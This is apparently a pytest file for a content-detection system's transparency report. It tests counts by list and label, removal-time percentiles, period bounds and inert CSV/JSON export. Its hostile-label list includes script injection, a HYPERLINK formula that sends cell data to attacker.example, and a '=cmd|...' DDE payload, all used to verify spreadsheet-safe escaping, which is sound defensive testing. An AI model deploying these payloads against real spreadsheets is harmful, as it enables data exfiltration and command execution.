"""The transparency report on SQLite and PostgreSQL: exact counts by list and label, by latest
review and by retraction reason, the nearest-rank median and 90th percentile of the time
to removal, the half-open period, and JSON and CSV downloads a spreadsheet opens inertly."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from agent.config import AgentSettings, Settings
from agent.model.status import RetractionReason
from agent.model.transparency import ListLabelCount, Period, RemovalTimes, RetractionCount, ReviewCounts
from agent.services import Invalid, Services, TransparencyService
from agent.store import Store
from tests.support.dated import date_retractions, dated_finding, no_event, removed_after

T0 = datetime(2026, 3, 1, tzinfo=UTC)
MARCH = Period(T0, datetime(2026, 4, 1, tzinfo=UTC))


async def test_findings_are_counted_by_list_and_each_label_and_by_their_latest_review(store: Store) -> None:
    """A finding counts once under each distinct label (and under "" with none); reviews count
    each finding by its latest verdict; retractions count by reason when they were made."""
    a = await dated_finding(store, "a", T0, labels=["csam", "known"])
    b = await dated_finding(store, "b", T0 + timedelta(days=1), labels=["csam", "csam"])
    c = await dated_finding(store, "c", T0 + timedelta(days=2))
    await dated_finding(store, "d", T0 + timedelta(days=3), list_name="ncmec", labels=["csam"])
    e = await dated_finding(store, "e", T0 + timedelta(days=4), list_name="ncmec", entry="ncmec:gone")
    await dated_finding(store, "before", T0 - timedelta(days=1), labels=["csam"])
    await store.reviews.review(a, "false_positive", note=None, reviewer="r1")
    await store.reviews.review(a, "confirmed", note="on second look", reviewer="r2")
    await store.reviews.review(b, "confirmed", note=None, reviewer="r1")
    await store.reviews.review(b, "false_positive", note=None, reviewer="r2")
    await store.reviews.review(c, "false_positive", note=None, reviewer="r1")
    assert await store.reviews.retract_entries("ncmec", ["ncmec:gone"], "deleted upstream", no_event) == [e]
    # a's retraction was made before the period: it is not one of March's.
    await date_retractions(store, [a], T0 - timedelta(hours=1))
    await date_retractions(store, [b, c, e], T0 + timedelta(days=5))

    report = await TransparencyService(store).report(MARCH)

    assert report.findings_total == 5
    assert report.by_list_label == (
        ListLabelCount("ncmec", "", 1),
        ListLabelCount("ncmec", "csam", 1),
        ListLabelCount("tcap", "", 1),
        ListLabelCount("tcap", "csam", 2),
        ListLabelCount("tcap", "known", 1),
    )
    assert report.reviews == ReviewCounts(confirmed=1, false_positive=2, unreviewed=2)
    assert report.retractions == (
        RetractionCount(RetractionReason.FALSE_POSITIVE, 2),
        RetractionCount(RetractionReason.ENTRY_DELETED, 1),
    )


async def test_time_to_removal_is_the_nearest_rank_median_and_90th_percentile_per_item(store: Store) -> None:
    """Ten removals in one period give the 5th and 9th shortest as median and p90, exact to the
    microsecond; an item with two findings counts once, available items count as still up,
    items never checked, items whose every finding is a false positive and items found in
    another period are left out."""
    # Durations in microseconds, not in key order, the first alerts straddling a second
    # boundary: a sort to the millisecond would pick other values.
    micros = [900, 100, 500, 300, 700, 200, 800, 400, 1000, 600]
    for i, us in enumerate(micros):
        key = f"m{9 - i}"
        first = T0 + timedelta(days=i, microseconds=999_500)
        await dated_finding(store, key, first)
        await removed_after(store, key, first, timedelta(microseconds=us))
    # Found twice in March: still one removal (its duration is the longest, 1 day).
    await dated_finding(store, "m-twice", T0 + timedelta(days=20), entry="tcap:one")
    await dated_finding(store, "m-twice", T0 + timedelta(days=21), entry="tcap:two")
    await removed_after(store, "m-twice", T0 + timedelta(days=20), timedelta(days=1))
    for key in ("up1", "up2"):
        await dated_finding(store, key, T0 + timedelta(days=22))
        await store.content.set_state(key, "available", first_alert_at=T0, detail={}, follow_up=None)
    await dated_finding(store, "never-checked", T0 + timedelta(days=23))
    # Every finding of it a false positive: its removal is no takedown.
    wrong = await dated_finding(store, "false-alarm", T0 + timedelta(days=24))
    await store.reviews.review(wrong, "false_positive", note=None, reviewer="r1")
    await removed_after(store, "false-alarm", T0 + timedelta(days=24), timedelta(seconds=5))
    # One finding a false positive, the other standing: it counts (its duration, 2 days, the longest).
    doubted = await dated_finding(store, "half-wrong", T0 + timedelta(days=25), entry="tcap:a")
    await dated_finding(store, "half-wrong", T0 + timedelta(days=25), entry="tcap:b")
    await store.reviews.review(doubted, "false_positive", note=None, reviewer="r1")
    await removed_after(store, "half-wrong", T0 + timedelta(days=25), timedelta(days=2))
    await dated_finding(store, "february", T0 - timedelta(days=3))
    await removed_after(store, "february", T0 - timedelta(days=3), timedelta(seconds=1))

    removal = (await TransparencyService(store).report(MARCH)).removal

    # Twelve sorted durations: 100..1000 µs, 1 day, 2 days; nearest rank 6 and 11.
    assert removal == RemovalTimes(removed=12, still_available=2, median_s=0.0006, p90_s=86400.0)


async def test_removal_percentiles_over_ten_durations_from_seconds_to_days(store: Store) -> None:
    """Ten removals taking 1 s to 3 days give the 5th (median) and 9th (p90) shortest."""
    durations = [5, 1, 3600, 259_200, 7.25, 120, 45, 86_400, 0.5, 600]
    for i, seconds in enumerate(durations):
        first = T0 + timedelta(hours=i)
        await dated_finding(store, f"k{i}", first)
        await removed_after(store, f"k{i}", first, timedelta(seconds=seconds))

    removal = (await TransparencyService(store).report(MARCH)).removal

    # Sorted: 0.5, 1, 5, 7.25, 45, 120, 600, 3600, 86400, 259200.
    assert removal == RemovalTimes(removed=10, still_available=0, median_s=45.0, p90_s=86_400.0)


async def test_the_period_includes_its_start_and_excludes_its_end(store: Store) -> None:
    """A finding (or retraction, or removal) exactly at `until` belongs to the next period; one
    exactly at `since`, or a microsecond before `until`, to this one."""
    until = MARCH.until
    at_since = await dated_finding(store, "since", T0, labels=["x"])
    await dated_finding(store, "last", until - timedelta(microseconds=1), labels=["x"])
    at_until = await dated_finding(store, "until", until, labels=["x"])
    await store.reviews.review(at_since, "false_positive", note=None, reviewer=None)
    await store.reviews.review(at_until, "false_positive", note=None, reviewer=None)
    await date_retractions(store, [at_since], T0)
    await date_retractions(store, [at_until], until)
    await dated_finding(store, "until-gone", until, labels=["x"])
    await removed_after(store, "until-gone", until, timedelta(seconds=1))

    march = await TransparencyService(store).report(MARCH)
    april = await TransparencyService(store).report(Period(until, until + timedelta(days=30)))

    assert march.findings_total == 2 and march.by_list_label == (ListLabelCount("tcap", "x", 2),)
    assert march.reviews == ReviewCounts(confirmed=0, false_positive=1, unreviewed=1)
    assert march.retractions[0] == RetractionCount(RetractionReason.FALSE_POSITIVE, 1)
    assert march.removal.removed == 0
    assert april.findings_total == 2 and april.removal.removed == 1 and april.removal.median_s == 1.0
    assert april.retractions[0] == RetractionCount(RetractionReason.FALSE_POSITIVE, 1)


HOSTILE_LABELS = [
    "<script>alert(1)</script>",
    '=HYPERLINK("http://attacker.example/?"&A1,"open")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented",
    'comma, "quote"\nand newline',
]


async def test_the_csv_download_is_inert_in_a_spreadsheet_and_parses_back(store: Store) -> None:
    """Labels that a spreadsheet would run as formulas come out of the CSV prefixed with a
    quote; HTML, commas, quotes and newlines come back exactly through csv.reader; the JSON
    keeps the labels as they are and survives json.dumps."""
    await dated_finding(store, "h", T0, labels=HOSTILE_LABELS)
    await dated_finding(store, "g", T0, list_name="=cmd|'/c calc'!A1", labels=["plain"])
    first = T0 + timedelta(hours=1)
    await removed_after(store, "h", first, timedelta(seconds=90))

    report = await TransparencyService(store).report(MARCH)
    rows = list(csv.reader(io.StringIO(report.to_csv(), newline="")))

    assert rows[0] == ["section", "list", "label", "key", "value"]
    assert all(len(row) == 5 for row in rows)
    labels = {row[2]: row[4] for row in rows if row[0] == "findings_by_list_label" and row[1] == "tcap"}
    assert labels == {
        "<script>alert(1)</script>": "1",
        '\'=HYPERLINK("http://attacker.example/?"&A1,"open")': "1",
        "'+1+2": "1",
        "'-2+3": "1",
        "'@SUM(A1:A9)": "1",
        "'\tindented": "1",
        'comma, "quote"\nand newline': "1",
    }
    assert ["findings_by_list_label", "'=cmd|'/c calc'!A1", "plain", "findings", "1"] in rows
    for row in rows:
        for cell in row[1:3]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert ["time_to_removal", "", "", "median_s", "90.0"] in rows
    assert ["findings", "", "", "total", "2"] in rows
    assert ["period", "", "", "since", "2026-03-01T00:00:00Z"] in rows

    doc = report.to_json()
    assert json.loads(json.dumps(doc)) == doc
    assert sorted(r["label"] for r in doc["findings"]["by_list_label"] if r["list"] == "tcap") == sorted(HOSTILE_LABELS)
    assert doc["period"] == {"since": "2026-03-01T00:00:00Z", "until": "2026-04-01T00:00:00Z"}
    assert doc["time_to_removal"] == {
        "removed": 1,
        "still_available": 0,
        "median_s": 90.0,
        "p90_s": 90.0,
        "method": "nearest-rank",
    }


async def test_an_empty_period_gives_zeros_and_no_removal_times(store: Store) -> None:
    """With nothing in the period every count is zero (each reason still listed) and both
    removal times are None: null in the JSON, an empty cell in the CSV."""
    await dated_finding(store, "elsewhere", T0 - timedelta(days=40), labels=["x"])

    report = await TransparencyService(store).report(MARCH)

    assert report.findings_total == 0 and report.by_list_label == ()
    assert report.reviews == ReviewCounts(0, 0, 0)
    assert report.retractions == (
        RetractionCount(RetractionReason.FALSE_POSITIVE, 0),
        RetractionCount(RetractionReason.ENTRY_DELETED, 0),
    )
    assert report.removal == RemovalTimes(removed=0, still_available=0, median_s=None, p90_s=None)
    doc = json.loads(json.dumps(report.to_json()))
    assert doc["findings"] == {"total": 0, "by_list_label": []}
    assert doc["retractions"] == {"false_positive": 0, "entry_deleted": 0}
    assert doc["time_to_removal"]["median_s"] is None and doc["time_to_removal"]["p90_s"] is None
    rows = list(csv.reader(io.StringIO(report.to_csv(), newline="")))
    assert ["time_to_removal", "", "", "median_s", ""] in rows and ["time_to_removal", "", "", "p90_s", ""] in rows


@pytest.mark.parametrize(
    ("since", "until", "field"),
    [
        (MARCH.until, MARCH.since, "until"),
        (T0, T0, "until"),
        (T0, T0 + timedelta(days=3661), "until"),
        (datetime(2026, 3, 1), MARCH.until, "since"),  # noqa: DTZ001 - the naive bound under test
    ],
)
async def test_a_reversed_empty_too_long_or_naive_period_is_invalid(
    store: Store, since: datetime, until: datetime, field: str
) -> None:
    """The service refuses the period, naming the bound at fault, before reading anything."""
    with pytest.raises(Invalid) as refused:
        await TransparencyService(store).report(Period(since, until))
    assert refused.value.field == field


async def test_a_period_of_exactly_3660_days_is_reported(store: Store) -> None:
    """The longest period allowed is answered (a finding at its last microsecond included)."""
    await dated_finding(store, "late", T0 + timedelta(days=3660) - timedelta(microseconds=1))
    report = await TransparencyService(store).report(Period(T0, T0 + timedelta(days=3660)))
    assert report.findings_total == 1


def test_period_bounds_are_parsed_from_dates_and_zoned_times_only() -> None:
    """A date is midnight UTC, a time needs a zone; anything else is Invalid, naming the bound."""
    assert TransparencyService.period("2026-03-01", "2026-04-01") == MARCH
    assert TransparencyService.period("2026-03-01T01:00:00+01:00", "2026-04-01T00:00:00Z") == MARCH
    for since, until, field in [
        ("2026-03-01T00:00:00", "2026-04-01", "since"),
        ("2026-03-01", "next week", "until"),
        ("2026-03-01", "2" * 100, "until"),
        ("2026-04-01", "2026-03-01", "until"),
        ("9999-12-31T23:00:00-05:00", "2026-03-01", "since"),
    ]:
        with pytest.raises(Invalid) as refused:
            TransparencyService.period(since, until)
        assert refused.value.field == field, (since, until)


async def test_the_services_door_serves_the_report(store: Store, tmp_path: Path) -> None:
    """Services (what the console and the API hold) answers the report over its store."""
    await dated_finding(store, "a", T0)
    services = Services(Settings(agent=AgentSettings(data_dir=tmp_path / "data", health_port=0)), store)
    assert (await services.transparency.report(MARCH)).findings_total == 1
